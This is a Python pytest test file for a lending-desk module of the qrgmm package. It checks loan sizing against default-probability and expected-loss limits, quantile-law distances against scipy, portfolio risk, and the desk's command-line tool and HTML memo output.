"""The lender's desk: loans against their limits, drivers against moved rows, distances against scipy, the command."""

import html
import io
import os
import re
import sys

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from scipy import stats
from scipy.optimize import brentq

from qrgmm import desk
from qrgmm.curve import QuantileCurve
from qrgmm.datasets.big_mart import load_big_mart
from qrgmm.desk import comparables, decisions
from qrgmm.desk.command import disarm
from qrgmm.desk.flags import CHAIN_COLUMNS
from qrgmm.desk.inputs import DESK_LEVELS
from qrgmm.desk.memo import write_memo
from qrgmm.desk.pages import write_together
from qrgmm.desk.panel import panel
from qrgmm.desk.section import SHARES
from qrgmm.models.encoding import FieldEncoder
from qrgmm.models.metamodel import QRGMM
from qrgmm.models.resampling import bootstrap_curves
from qrgmm.portfolio.copula import EllipticalCopula
from qrgmm.portfolio.loans import loss_measures, portfolio_loss
from qrgmm.risk import default_probability, expected_loss, largest_loan, risk_profile
from qrgmm.systems.warning_scores import total_risk_score

LIMITS = {"max_default_probability": 0.05, "max_expected_loss_rate": 0.01}


@pytest.fixture(scope="module")
def past():
    rng = np.random.default_rng(0)
    X = pd.DataFrame({"kind": rng.choice(["kiosk", "shop"], 500), "price": rng.uniform(5, 15, 500).round(2)})
    X.attrs["source"] = "made up"
    sales = np.where(X["kind"] == "shop", 120.0, 40.0) - 2 * X["price"] + rng.gamma(6, 5, 500)
    return X, sales


@pytest.fixture(scope="module")
def model(past):
    return QRGMM(DESK_LEVELS, FieldEncoder()).fit(*past)


@pytest.fixture(scope="module")
def sellers():
    return pd.DataFrame({"kind": ["shop", "kiosk", "kiosk"], "price": [8.0, 8.0, 14.0]}, ["Ada", "Ben", "<Cy>"])


@pytest.fixture(scope="module")
def found(model, past, sellers):
    return desk.decide(model, *past, sellers, LIMITS, "price", n_refits=4, n_comparable=50, rng=0)


# Loans.


def test_loans_are_the_largest_that_keep_every_limit(model, sellers):
    curve, price = model.predict_curve(sellers), sellers["price"].to_numpy()
    table = desk.size_loans(curve, price, **LIMITS, cap=900.0)
    loans = table["loan"].to_numpy()
    for i, loan in enumerate(loans):
        rate = brentq(
            lambda x, i=i: expected_loss(curve[i], x, unit_revenue=price[i]).item() / x - 0.01, 1e-6, 1e5, xtol=1e-10
        )
        bounds = {
            "max_default_probability": price[i] * curve.upper_quantile(0.05)[i, 0],
            "max_expected_loss_rate": rate,
            "cap": 900.0,
        }
        np.testing.assert_allclose(loan, min(bounds.values()), rtol=1e-9)
        assert table["binding"].iloc[i] == min(bounds, key=bounds.get)
    np.testing.assert_allclose(
        table["default_probability"], default_probability(curve, loans[:, None], unit_revenue=price)[:, 0]
    )
    np.testing.assert_allclose(table["expected_loss_rate"] * loans, table["expected_loss"])
    np.testing.assert_allclose(table["mean_revenue"], price * curve.mean())


def test_a_law_that_allows_no_loan_gets_none_without_a_fault():
    table = desk.size_loans(QuantileCurve([0.3, 0.6], [[-5.0, 9.0]]), 2.0, max_default_probability=0.1)
    assert table["loan"].item() == 0 and table["expected_loss_rate"].item() == 0
    assert table[["default_probability", "expected_loss", "loss_given_default"]].isna().all(axis=None)
    # Nobody sells less than nothing: -5 counts as 0, up to the level 0.3 + 0.3 * 5 / 14, and 9 has the mass 0.4.
    assert table["mean_revenue"].item() == pytest.approx(2 * (0.3 * 9 / 14 * 4.5 + 0.4 * 9))


def test_loans_without_a_limit_are_refused():
    curve = QuantileCurve([0.3, 0.6], [[5.0, 9.0]])
    with pytest.raises(ValueError, match="limits must bound every loan, got .*which leave 1 unbounded"):
        desk.size_loans(curve, max_default_probability=1.0)
    with pytest.raises(ValueError, match="give at least one limit"):
        desk.size_loans(curve, max_default_probability=None)


def test_the_band_is_the_range_of_refits(found, sellers):
    curves, price = found.refits, sellers["price"].to_numpy()
    each = np.array([desk.size_loans(curve, price, **LIMITS)["loan"] for curve in curves])
    np.testing.assert_allclose(desk.loan_band(curves, price, 0.9, **LIMITS).T, np.quantile(each, [0.05, 0.95], axis=0))
    with pytest.raises(ValueError, match="refits must hold at least two curves, got 1"):
        desk.loan_band(curves[:1], price, **LIMITS)


def test_a_band_covers_the_loan_of_the_truth():
    """Ends that lie between the extremes of twenty refits cover about eight in ten, if refits are like new samples."""
    rng, inside = np.random.default_rng(5), []
    truth = stats.gamma(4, scale=10)
    x_new = np.array([[0.5]])
    exact = 50 * 0.5 + truth.ppf(0.2)
    for _ in range(30):
        X = rng.uniform(size=(100, 1))
        y = 50 * X[:, 0] + truth.rvs(100, random_state=rng)
        refits = bootstrap_curves(QRGMM(levels=[0.2, 0.5]), X, y, x_new, 20, rng)
        low, high = desk.loan_band(refits, max_default_probability=0.2)[0]
        inside.append(low <= exact <= high)
    assert 0.6 <= np.mean(inside) <= 0.97


# Drivers.


def test_a_driver_is_the_difference_of_two_loans(model, past, sellers):
    reference = desk.reference_values(past[0])
    assert reference == {"kind": past[0]["kind"].mode()[0], "price": past[0]["price"].median()}
    drivers = desk.loan_drivers(model, sellers, reference, "price", **LIMITS)
    for name, row in sellers.iterrows():
        now = desk.size_loans(model.predict_curve(row.to_frame().T.infer_objects()), row["price"], **LIMITS)["loan"]
        for field in reference:
            other = pd.DataFrame([{**row, field: reference[field]}])
            then = desk.size_loans(model.predict_curve(other), other["price"].to_numpy(), **LIMITS)["loan"]
            np.testing.assert_allclose(drivers.loc[name, field], now.item() - then.item(), atol=1e-9)


def test_at_the_reference_nothing_drives(model, past):
    reference = desk.reference_values(past[0])
    drivers = desk.loan_drivers(model, pd.DataFrame([reference]), reference, "price", **LIMITS)
    assert (drivers == 0).all(axis=None)


@pytest.mark.parametrize(
    "unit_revenue, message",
    [("cost", "must name a column of sellers, got 'cost'"), (0.0, "must be positive"), ([1, 2, np.nan], "positive")],
)
def test_a_wrong_unit_revenue_is_refused(sellers, unit_revenue, message):
    with pytest.raises(ValueError, match=message):
        desk.revenue_per_unit(sellers, unit_revenue)


# Comparable sellers.

knots = st.lists(st.floats(-50, 50), min_size=4, max_size=4).map(sorted)


@given(st.lists(knots, min_size=1, max_size=3), st.lists(knots, min_size=1, max_size=3))
def test_the_distance_is_the_area_between_quantile_functions(first, second):
    levels = [0.1, 0.3, 0.4, 0.8]
    curve, others = QuantileCurve(levels, first), QuantileCurve(levels, second)
    u = (np.arange(20_000) + 0.5) / 20_000
    area = np.abs(curve.ppf(u)[:, None] - others.ppf(u)[None]).mean(axis=2)
    np.testing.assert_allclose(desk.law_distances(curve, others), area, atol=0.02)
    np.testing.assert_allclose(desk.law_distances(others, curve).T, desk.law_distances(curve, others), atol=1e-12)


def test_the_distance_of_empirical_laws_is_scipys():
    rng = np.random.default_rng(2)
    first, second = rng.normal(size=(2, 30)), rng.gamma(2.0, size=(3, 30))
    ours = desk.law_distances(QuantileCurve.from_draws(first), QuantileCurve.from_draws(second))
    theirs = [[stats.wasserstein_distance(a, b) for b in second] for a in first]
    np.testing.assert_allclose(ours, theirs, atol=1e-12)


def test_laws_on_different_levels_are_refused():
    with pytest.raises(ValueError, match="others must have the levels of curve"):
        desk.law_distances(QuantileCurve([0.5, 0.6], [1.0, 2.0]), QuantileCurve([0.4, 0.6], [1.0, 2.0]))


def test_comparable_sellers_are_those_with_the_nearest_laws(found, model, past):
    X, sales = past
    distances = desk.law_distances(found.curve, model.predict_curve(X))
    for i, rows in enumerate(found.comparables):
        assert len(set(rows)) == 50
        left = np.delete(distances[i], rows)
        assert distances[i, rows].max() <= left.min()
        assert (np.diff(distances[i, rows]) >= -1e-12 * distances.max()).all()  # equal ones are in order of rows
        share = np.mean(found.unit_revenue[i] * np.asarray(sales)[rows] < found.table["loan"].iloc[i] * (1 - 1e-12))
        assert found.table["comparable_default_share"].iloc[i] == pytest.approx(share)


# Portfolio and flags.


@pytest.mark.parametrize("loading", [0.0, 0.6])
def test_the_parts_sum_to_the_risk_of_all_loans(found, loading):
    loans, price = found.table["loan"].to_numpy(), found.unit_revenue
    place = desk.place_in_portfolio(found.curve, loans, loading, 5000, 3, unit_revenue=price)
    copula = EllipticalCopula(loadings=[loading] * 3)
    losses = portfolio_loss(found.curve, loans[:, None], copula, 5000, 3, price)
    np.testing.assert_allclose(place["cvar_part"].sum(), loss_measures(losses)["conditional_value_at_risk"])
    assert place["cvar_part"].sum() < place["cvar_alone"].sum()


def test_flags_are_raised_from_their_thresholds_on():
    indicators = dict(
        zip(CHAIN_COLUMNS, ([0.6, 0.1], [0.5, 0.1], [0.4, 0.1], [0.6, 0.1], [0.3, 0.1], [0.5, 0.1], [0.3, 0.1]))
    )
    frame = pd.DataFrame(indicators | {"industry": [0.2, 0.2], "late_probability": [0.29, 0.3]})
    score = total_risk_score([0.5, 0.45, 0.4], 1.0, 0.2, margin="survival")
    flags = desk.warning_flags(frame, 0.3, score)
    assert flags["risk_score"].iloc[0] == pytest.approx(score)
    assert flags["buyer_late"].tolist() == [False, True] and flags["chain_risky"].tolist() == [True, False]
    assert desk.warning_flags(frame).columns.empty
    with pytest.raises(ValueError, match=r"sellers must have the columns \['late_probability'\], got"):
        desk.warning_flags(frame.drop(columns="late_probability"), 0.3)
    with pytest.raises(ValueError, match="'industry' of sellers must lie in"):
        desk.warning_flags(frame.assign(industry=7.0), max_risk_score=1.0)


# All of it.


def test_decisions_do_not_depend_on_the_columns_that_a_table_has_besides(model, past, sellers, found):
    shuffled = sellers.assign(note="x")[["note", "price", "kind"]]
    again = desk.decide(model, *past, shuffled, LIMITS, "price", n_refits=4, n_comparable=50, rng=0)
    pd.testing.assert_frame_equal(again.table, found.table)
    pd.testing.assert_frame_equal(again.drivers, found.drivers)
    with pytest.raises(ValueError, match="names must have 3 entries, one per seller, got 1"):
        desk.decide(model, *past, sellers, LIMITS, "price", names=["A"])


def test_the_memo_says_what_was_decided_and_carries_everything_with_it(found, tmp_path):
    write_memo(found, tmp_path / "memo.html")
    text = (tmp_path / "memo.html").read_text(encoding="utf-8")
    assert not re.search(r"""(?:src|href)=|https?://|@import|<Cy>""", text.replace("xmlns", ""))
    for name, row in found.table.iterrows():
        assert 0 < row["amount"] == row["cautious_loan"] < row["loan"]
        alone = f"(by the forecast alone {row['loan']:,.0f}, {row['loan_low']:,.0f} to"
        assert f"Lend up to {row['amount']:,.0f} {alone}" in text, name
    assert text.count('<svg class="chart"') == 6 and text.count("aria-label") >= 7
    assert "price: 14 (reference" in text and "made up" in text and "nan" not in text.split("<script")[0].lower()


def test_a_panel_needs_a_name_for_every_seller(found):
    with pytest.raises(ValueError, match="names must have 3 entries, one per seller, got 2"):
        panel(found.curve, ["A", "B"])


@pytest.fixture
def files(past, sellers, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    X, sales = past
    X.assign(units=sales).to_csv("history.csv", index=False)
    sellers.rename_axis("seller").reset_index().to_csv("sellers.csv", index=False)
    options = ["--folds", "0", "--history", "history.csv", "--target", "units", "--unit-revenue", "price"]
    return ["sellers.csv", *options]


def test_the_command_writes_what_the_functions_return(files, found, model, past, sellers, capsys, tmp_path):
    desk.main([*files, "--name", "seller", "--max-expected-loss-rate", "0.01", "--refits", "4", "--output", "out"])
    written = pd.read_csv(tmp_path / "out" / "decisions.csv", index_col="seller")
    assert written.index.tolist() == ["Ada", "Ben", "<Cy>"]
    expected = desk.decide(model, *past, sellers, LIMITS, "price", n_refits=4, n_folds=0, rng=0).table
    assert expected.pop("warnings").tolist() == [""] * 3 and written.pop("warnings").isna().all()
    pd.testing.assert_frame_equal(written, expected.rename_axis("seller"), rtol=1e-5, atol=1e-5)
    assert "Lend up to" in (tmp_path / "out" / "memo.html").read_text(encoding="utf-8")
    assert "fitted to history.csv; 3 sellers" in capsys.readouterr().out


def test_the_command_takes_a_number_for_unit_revenue_and_codes_of_digits_as_text(files, tmp_path):
    table = pd.read_csv("history.csv").assign(kind=lambda t: np.where(t["kind"] == "shop", "007", "012"))
    table.to_csv("history.csv", index=False)
    pd.DataFrame({"kind": ["007"], "price": [8.0]}).to_csv("sellers.csv", index=False)
    desk.main([*files[:-1], "3.5", "--categorical", "kind", "--refits", "0"])
    row = pd.read_csv("desk/decisions.csv").iloc[0]
    assert row["seller"] == "seller 1" and "loan_low" not in row
    assert 300 < row["loan"] < 600


def test_the_command_raises_flags_from_columns(files, tmp_path):
    table = pd.read_csv("sellers.csv").assign(late_probability=[0.1, 0.9, 0.2])
    table.to_csv("sellers.csv", index=False)
    desk.main([*files, "--max-late-probability", "0.5", "--refits", "0"])
    assert pd.read_csv("desk/decisions.csv")["buyer_late"].tolist() == [False, True, False]
    memo = (tmp_path / "desk" / "memo.html").read_text(encoding="utf-8")
    assert "No flag: the buyer pays late with probability 0.10" in memo and "FLAG: the buyer" in memo


def test_without_a_history_the_command_uses_the_books_data_and_says_so(tmp_path, monkeypatch, capsys):
    big_mart = load_big_mart(stand_in=True)
    big_mart.head(2).drop(columns="Item_Outlet_Sales").to_csv(tmp_path / "sellers.csv", index=False)
    monkeypatch.chdir(tmp_path)
    desk.main(["sellers.csv", "--refits", "0", "--folds", "0"])
    assert f"fitted to {big_mart.attrs['source']} (no --history given" in capsys.readouterr().out
    assert len(pd.read_csv("desk/decisions.csv")) == 2


@pytest.mark.parametrize(
    "change, message",
    [
        ({"sellers": "kind,price\nshop,eight\n"}, "sellers.csv: column 'price' must hold finite numbers, got 'eight'"),
        ({"sellers": "kind,cost\nshop,8\n"}, r"sellers.csv has no columns \['price'\]"),
        ({"sellers": "kind,price\nshop,8\nstall,8\n"}, r"seller 'seller 2': column 'kind' has 'stall', which no"),
        ({"sellers": "kind,price\nshop,-1\n"}, "unit_revenue must be positive"),
        ({"history": "kind,price\nshop,8\n"}, r"history.csv has no columns \['units'\]"),
        ({"history": None}, "history.csv"),
        ({"options": ["--max-default-probability", "2"]}, r"--max-default-probability must lie in \(0, 1\], got 2"),
        ({"options": ["--max-late-probability", "0.5"]}, r"no columns \['late_probability'\]"),
    ],
)
def test_bad_files_are_refused_in_one_line_and_nothing_is_written(files, change, message, capsys, tmp_path):
    for name in ("sellers", "history"):
        if name in change:
            (tmp_path / f"{name}.csv").unlink()
            if change[name]:
                (tmp_path / f"{name}.csv").write_text(change[name], encoding="utf-8")
    with pytest.raises(SystemExit) as stopped:
        desk.main([*files, "--refits", "0", *change.get("options", [])])
    error = capsys.readouterr().err
    assert stopped.value.code == 2 and re.search(message, error) and error.count("\n") == 1
    assert not (tmp_path / "desk").exists()


@pytest.mark.parametrize("option", [["--target", "units"], ["--unit-revenue", "3"], ["--continuous", "price"]])
def test_options_of_a_history_need_one(option, capsys):
    with pytest.raises(SystemExit):
        desk.main(["sellers.csv", *option])
    assert f"{option[0]} needs --history" in capsys.readouterr().err


def test_a_history_needs_its_target(capsys):
    with pytest.raises(SystemExit):
        desk.main(["sellers.csv", "--history", "history.csv"])
    assert "--history needs --target" in capsys.readouterr().err


# Laws that reach below zero.


@pytest.fixture(scope="module")
def steep():
    """A past in which sales fall with the price, so that straight lines cross zero, and a seller beyond that."""
    rng = np.random.default_rng(7)
    X = pd.DataFrame({"price": rng.uniform(1, 10, 400)})
    sales = ((60 - 6 * X["price"]) * rng.uniform(0, 1.2, 400)).clip(0)
    model = QRGMM(DESK_LEVELS, FieldEncoder()).fit(X, sales)
    new = pd.DataFrame({"price": [2.0, 9.9, 4.0]}, ["Ada", "Dee", "Ben"])
    return model, X, sales, new


def test_a_refused_seller_has_no_exposure_and_changes_nothing_for_the_others(steep, tmp_path):
    model, X, sales, new = steep
    raw, price = model.predict_curve(new), new["price"].to_numpy()
    assert (raw.values[1, :6] < 0).all()
    limits = {"max_default_probability": 0.05}
    found = desk.decide(model, X, sales, new, limits, "price", n_refits=2, n_folds=0, rng=0)
    blank = ["default_probability", "expected_loss", "loss_given_default", "cvar_alone", "cvar_part"]
    assert found.table.loc["Dee", "loan"] == 0 and found.table.loc["Dee", blank].isna().all()
    assert found.table.loc[["Ada", "Ben"], blank].notna().all(axis=None)
    assert (found.table["mean_revenue"] > 0).all()
    alone = desk.decide(model, X, sales, new.drop("Dee"), limits, "price", n_refits=2, n_folds=0, rng=0)
    pd.testing.assert_series_equal(found.table["cvar_part"].drop("Dee"), alone.table["cvar_part"])
    # Loan, band, drivers and portfolio by hand, from laws cut at 0.
    exact = largest_loan(raw.clip(lower=0.0), unit_revenue=price, **limits)
    np.testing.assert_array_equal(found.table["loan"], exact)
    np.testing.assert_array_equal(desk.size_loans(raw, price, **limits)["loan"], exact)
    assert all((refit.values >= 0).all() for refit in found.refits) and (found.curve.values >= 0).all()
    assert (found.table["loan_low"] >= 0).all()
    np.testing.assert_array_equal(found.floored, (raw.values < 0).sum(axis=1))
    write_memo(found, tmp_path / "memo.html")
    memo = (tmp_path / "memo.html").read_text(encoding="utf-8")
    assert f"{found.floored.sum()} quantiles of {(found.floored > 0).sum()} of 3 sellers" in memo
    section = memo[memo.index("<h2>Dee") : memo.index("<h2>Ben")]
    assert "<strong>No loan" in section and "nan" not in section.lower() and "it loses" not in section
    assert "No loan keeps the limits for 1 of 3 sellers" in memo


def test_nobody_gets_a_loan(steep):
    model, X, sales, new = steep
    limits = {"max_default_probability": 0.05}
    found = desk.decide(model, X, sales, new.loc[["Dee"]], limits, "price", n_refits=0, n_folds=0)
    assert found.table["cvar_part"].isna().all() and found.table["comparable_default_share"].isna().all()


def test_expected_loss_of_a_floored_law_is_that_of_its_draws(steep):
    model, _, _, new = steep
    table = desk.size_loans(model.predict_curve(new), 1.0, max_default_probability=0.6)
    draws = model.predict_curve(new).sample(200_000, rng=0).clip(0)
    lost = (table["loan"].to_numpy()[:, None] - draws).clip(0).mean(axis=1)
    np.testing.assert_allclose(table["expected_loss"], lost, rtol=0.02)


@given(st.lists(knots, min_size=1, max_size=3), st.lists(knots, min_size=1, max_size=3))
def test_the_distance_of_floored_laws_is_the_area_between_them(first, second):
    levels = [0.1, 0.3, 0.4, 0.8]
    curve, others = (QuantileCurve(levels, values).clip(lower=0.0) for values in (first, second))
    u = (np.arange(20_000) + 0.5) / 20_000
    area = np.abs(curve.ppf(u)[:, None] - others.ppf(u)[None]).mean(axis=2)
    np.testing.assert_allclose(desk.law_distances(curve, others), area, atol=0.02)
    np.testing.assert_allclose(desk.law_distances(others, curve).T, desk.law_distances(curve, others), atol=1e-12)


def test_distances_do_not_depend_on_how_levels_are_stored_or_on_blocks(monkeypatch):
    rng = np.random.default_rng(3)
    levels = [0.1, 0.3, 0.4, 0.8]
    curve, others = (QuantileCurve(levels, rng.gamma(2.0, size=(n, 4))) for n in (5, 40))
    shared = desk.law_distances(curve, others)
    # Cut where nothing is, and where an eighth of the mass is moved by a hair: levels of their own for every row.
    cut = others.clip(lower=others.values[:, 0] * 0.5 + others.values[:, 1] * 0.5)
    assert cut.levels.ndim == 2
    u = (np.arange(50_000) + 0.5) / 50_000
    area = np.abs(curve.ppf(u)[:, None] - cut.ppf(u)[None]).mean(axis=2)
    np.testing.assert_allclose(desk.law_distances(curve, cut), area, atol=1e-4)
    monkeypatch.setattr(comparables, "LAWS", 7)
    np.testing.assert_array_equal(desk.law_distances(curve, others), shared)


@pytest.mark.parametrize("lower", [None, 0.0])
@pytest.mark.parametrize("n", [1, 17, 300, 900])
def test_the_nearest_laws_are_those_of_all_distances(n, lower):
    rng = np.random.default_rng(4)
    base = np.sort(rng.normal(1.0, 2.0, size=(60, 4)), axis=1)
    others = QuantileCurve([0.1, 0.3, 0.4, 0.8], base[rng.integers(60, size=300)])  # many ties
    curve = QuantileCurve([0.1, 0.3, 0.4, 0.8], base[:5] + 0.1).clip(lower=lower)
    others = others.clip(lower=lower)
    distances = desk.law_distances(curve, others)
    rows, near = desk.nearest_laws(curve, others, n)
    np.testing.assert_array_equal(rows, np.argsort(distances, axis=1, kind="stable")[:, :n])
    np.testing.assert_array_equal(near, np.sort(distances, axis=1)[:, :n])


def test_comparable_sellers_do_not_depend_on_the_blocks_of_the_history(found, model, past, sellers, monkeypatch):
    monkeypatch.setattr(decisions, "PAST", 64)
    again = desk.decide(model, *past, sellers, LIMITS, "price", n_refits=0, n_folds=0, n_comparable=50, rng=0)
    np.testing.assert_array_equal(found.comparables, again.comparables)


@pytest.mark.parametrize("n_cores", [1, 2])
def test_the_nearest_laws_are_found_among_many_equal_ones_in_blocks_and_processes(n_cores, monkeypatch):
    monkeypatch.setattr(comparables, "allowed_cores", lambda: n_cores)
    rng, levels = np.random.default_rng(8), [0.05, 0.1, 0.3, 0.4, 0.8]
    base = np.sort(rng.gamma(2.0, 50.0, size=(40, 5)) - 20, axis=1)
    others = QuantileCurve(levels, base[rng.integers(40, size=900)]).clip(lower=0.0)
    curve = QuantileCurve(levels, np.sort(rng.gamma(2.0, 50.0, size=(23, 5)) - 20, axis=1)).clip(lower=0.0)
    exact = desk.law_distances(curve, others)
    monkeypatch.setattr(comparables, "LAWS", 10)
    rows, distances = desk.nearest_laws(curve, others, 60)
    np.testing.assert_allclose(distances, np.sort(exact, axis=1)[:, :60], rtol=1e-12)
    np.testing.assert_allclose(np.take_along_axis(exact, rows, axis=1), distances, rtol=1e-12)
    assert all(len(set(row)) == 60 for row in rows)
    # No mean of a part is farther than the law is.
    parts = [comparables._part_means(*comparables._corners(each)) for each in (curve, others)]
    np.testing.assert_allclose(parts[0].sum(axis=1), curve.mean(), rtol=1e-12)
    bound = np.abs(parts[0][:, None] - parts[1][None]).sum(axis=2)
    assert (bound <= exact + 1e-9).all() and np.median(bound / exact) > 0.8


def test_laws_that_differ_by_rounding_are_ordered_by_row():
    rng = np.random.default_rng(6)
    base = np.sort(rng.gamma(2.0, 500.0, size=(12, 4)), axis=1)
    laws = base[rng.integers(12, size=400)]
    curve, exact = (QuantileCurve([0.1, 0.3, 0.4, 0.8], values) for values in (base[:3] + 7.0, laws))
    rounded = QuantileCurve([0.1, 0.3, 0.4, 0.8], laws * (1 + rng.uniform(-4e-16, 4e-16, size=(400, 1))))
    np.testing.assert_array_equal(desk.nearest_laws(curve, rounded, 90)[0], desk.nearest_laws(curve, exact, 90)[0])


# Doubts.


def test_numbers_outside_the_history_are_named(model, past, sellers):
    price = past[0]["price"]
    low, high = price.min(), price.max()
    strange = sellers.assign(price=[8.0, 400.0, 0.04])
    table = desk.decide(model, *past, strange, LIMITS, "price", n_refits=0, n_folds=0, rng=0).table
    assert table["warnings"].iloc[0] == ""
    for text, value in zip(table["warnings"].iloc[1:], ("400", "0.04")):
        assert text.startswith(f"price {value} is outside the history's range, {low:g} to {high:g}")


def test_the_ends_of_the_range_are_inside(past):
    ends = pd.DataFrame({"price": [past[0]["price"].min(), past[0]["price"].max()]})
    assert desk.range_warnings(past[0], ends, ["price"]) == [[], []]


def test_a_share_is_beyond_the_promise_from_two_standard_errors_on():
    error = np.sqrt(0.05 * 0.95 / 400)
    shares = [0.05 + 1.9 * error, 0.05 + 2.1 * error, 0.05 - 1.9 * error, 0.05 - 2.1 * error, np.nan]
    texts = desk.promise_warnings(shares, [0.05] * 5, 400)
    assert [len(each) for each in texts] == [0, 1, 0, 1, 0]
    assert "far more than the 5% promised" in texts[1][0] and "far fewer than the 5% promised" in texts[3][0]
    # A promise of 0 is one of less than the first level.
    assert desk.promise_warnings([0.02, 0.04, 0.0], [0.0] * 3, 100, 0.01)[0] == []
    assert "more than the 1% promised" in desk.promise_warnings([0.04], [0.0], 100, 0.01)[0][0]


def test_the_command_says_its_doubts_in_terminal_table_and_memo(files, capsys):
    pd.DataFrame({"seller": ["Ada", "Ben"], "kind": "shop", "price": [8.0, 60.0]}).to_csv("sellers.csv", index=False)
    desk.main([*files, "--name", "seller", "--refits", "0"])
    written, out = pd.read_csv("desk/decisions.csv", index_col="seller"), capsys.readouterr().out
    with open("desk/memo.html", encoding="utf-8") as file:
        memo = file.read()
    for text in (written.loc["Ben", "warnings"], out, memo[memo.index("<h2>Ben") :]):
        assert "price 60 is outside the history's range" in text
    assert "warning: Ben: price 60" in out and "warning: Ada" not in out
    assert "Warning" not in memo[memo.index("<h2>Ada") : memo.index("<h2>Ben")]


@pytest.mark.parametrize("limit", [0.01, 0.005, 0.0006])
def test_a_limit_below_the_grid_is_put_on_it(files, limit, capsys, past):
    desk.main([*files, "--name", "seller", "--refits", "0", "--max-default-probability", str(limit)])
    table = pd.read_csv("desk/decisions.csv")
    # Where so few sales are below a level, neighbouring quantiles may be one sale: an atom, of which nothing is lost.
    assert (table["default_probability"] <= limit + 1e-6).all()
    if limit == 0.01:
        np.testing.assert_allclose(table["default_probability"], limit, atol=1e-6)
    with open("desk/memo.html", encoding="utf-8") as file:
        summary = file.read().split("<h2>Ada")[0]
    assert "<td>0.00%</td>" not in summary and f"from {limit / 4:.5f}".rstrip("0") in summary
    assert f"rests on the {round(500 * limit, 1):g}" in capsys.readouterr().out


def test_a_probability_below_the_first_level_is_not_said_to_be_zero(model, past, sellers, tmp_path):
    found = desk.decide(model, *past, sellers, {"max_default_probability": 0.01}, "price", n_refits=0, n_folds=0, rng=0)
    write_memo(found, tmp_path / "memo.html")
    assert (tmp_path / "memo.html").read_text(encoding="utf-8").count("<td>below 1.00%</td>") == 3


def test_a_limit_below_the_levels_of_a_model_is_refused(model, past, sellers):
    message = "max_default_probability 0.005 lies below the first level of the model, 0.01"
    with pytest.raises(ValueError, match=message):
        desk.decide(model, *past, sellers, {"max_default_probability": 0.005}, "price", n_refits=0, n_folds=0)


# Rare levels, codes and names.


def test_the_reference_of_a_code_is_a_code(past):
    X = past[0].assign(region=np.where(past[0]["kind"] == "shop", 4, 1))[["region", "price"]]
    model = QRGMM(DESK_LEVELS, FieldEncoder(["region"], ["price"])).fit(X, past[1])
    assert desk.reference_values(X, model) == {"region": X["region"].mode()[0], "price": X["price"].median()}
    new = pd.DataFrame({"region": [4, 1], "price": [8.0, 9.0]})
    found = desk.decide(model, X, past[1], new, LIMITS, "price", n_refits=0, n_folds=0, rng=0)
    assert found.reference["region"] in (1, 4) and (found.table["warnings"] == "").all()


def test_a_value_never_seen_is_named_with_its_seller_or_taken_as_another_one(files, past, sellers, capsys):
    with pytest.raises(ValueError, match="seller '<Cy>': column 'kind' has 'stall', which no past seller has"):
        model = QRGMM(DESK_LEVELS, FieldEncoder()).fit(*past)
        strange = sellers.assign(kind=["shop", "shop", "stall"])
        desk.decide(model, *past, strange, LIMITS, "price", n_refits=0, n_folds=0)
    pd.DataFrame({"seller": ["A", "B"], "kind": ["shop", "stall"], "price": 8.0}).to_csv("sellers.csv", index=False)
    desk.main([*files, "--name", "seller", "--refits", "0", "--unseen", "other"])
    table = pd.read_csv("desk/decisions.csv", index_col="seller")
    assert "kind stall is not in the history, taken as 'other'" in table.loc["B", "warnings"]
    assert 0 < table.loc["B", "loan"] < table.loc["A", "loan"] and "warning: B: kind stall" in capsys.readouterr().out


@pytest.mark.parametrize(
    "change, message",
    [
        ({"flags": pd.DataFrame({"risk_score": [0.1] * 3})}, "flags must have the index of sellers"),
        ({"names": ["A", "B", "A"]}, r"names of sellers must all be different, got \['A'\] more than once"),
        ({"n_refits": 1}, "n_refits must be 0, for no band, or at least 2, got 1"),
        ({"n_folds": 1}, "n_folds must be 0, for no cautious loans, or at least 2, got 1"),
        ({"n_refits": -3}, "n_refits must be a whole number of at least 0, got -3"),
        ({"loading": -0.5}, r"loading must lie in \[0, 1\], got -0.5"),
    ],
)
def test_decide_refuses_what_does_not_fit_together(model, past, sellers, change, message):
    with pytest.raises(ValueError, match=message):
        desk.decide(model, *past, sellers, LIMITS, "price", **{"n_refits": 0, "n_folds": 0, "rng": 0} | change)


def test_an_infinite_cap_is_no_cap(model, past, sellers):
    found = desk.decide(model, *past, sellers, LIMITS | {"cap": np.inf}, "price", n_refits=0, n_folds=0, rng=0)
    assert "cap" not in found.limits


# Options.


@pytest.mark.parametrize(
    "options",
    [
        "--max-default-probability 5", "--max-default-probability nan", "--max-default-probability -0.1",
        "--max-default-probability 0", "--max-expected-loss-rate 5", "--max-expected-loss-rate nan", "--cap nan",
        "--cap -5", "--max-late-probability 50", "--max-late-probability nan", "--max-late-probability -1",
        "--max-risk-score nan", "--max-risk-score 60", "--loading 1", "--loading -0.5", "--loading nan", "--refits -3",
        "--refits 1", "--folds 1", "--folds -2", "--seed -1", "--max-share kind", "--max-share kind=2",
        "--max-share kind=nan", "--max-share kind=0.4", "--max-share =0.5", "--today 1.2.2026", "--horizon soon",
        "--horizon 0D", "--origin 2026-01-01", "--amount price", "--model cart", "--reach cost", "--categorical",
        "--continuous", "--memos", "--unit-revenue nan", "--unit-revenue -2", "--unit-revenue inf",
        "--unit-revenue 2024", "--memos Zoe", "--name kind",
    ],
)  # fmt: skip
def test_options_that_cannot_be_meant_are_refused_by_name(files, options, capsys, tmp_path):
    pd.read_csv("sellers.csv").assign(**{"2024": 1.0}).to_csv("sellers.csv", index=False)
    with pytest.raises(SystemExit) as stopped:
        desk.main([*files, *options.split()])
    error = capsys.readouterr().err
    assert stopped.value.code == 2 and options.split()[0] in error and error.count("\n") == 1
    assert not (tmp_path / "desk").exists()


def test_a_number_that_is_no_column_is_a_number(files):
    pd.read_csv("sellers.csv").assign(**{"2024": 1.0}).to_csv("sellers.csv", index=False)
    desk.main([*files[:-1], "2024.0", "--refits", "0", "--cap", "inf"])
    assert pd.read_csv("desk/decisions.csv")["loan"].min() > 2024


def test_a_threshold_out_of_range_is_refused():
    for limits in ({"max_late_probability": 50}, {"max_late_probability": np.nan}, {"max_risk_score": np.nan}):
        with pytest.raises(ValueError, match=f"{next(iter(limits))} must lie in"):
            desk.warning_flags(pd.DataFrame({"late_probability": [0.99]}), **limits)


# Files.


def test_an_output_that_cannot_be_written_is_refused_before_anything_is_fitted(files, monkeypatch, capsys, tmp_path):
    monkeypatch.setattr(QRGMM, "fit", lambda *_: pytest.fail("fitted"))
    (tmp_path / "file").write_text("x", encoding="utf-8")
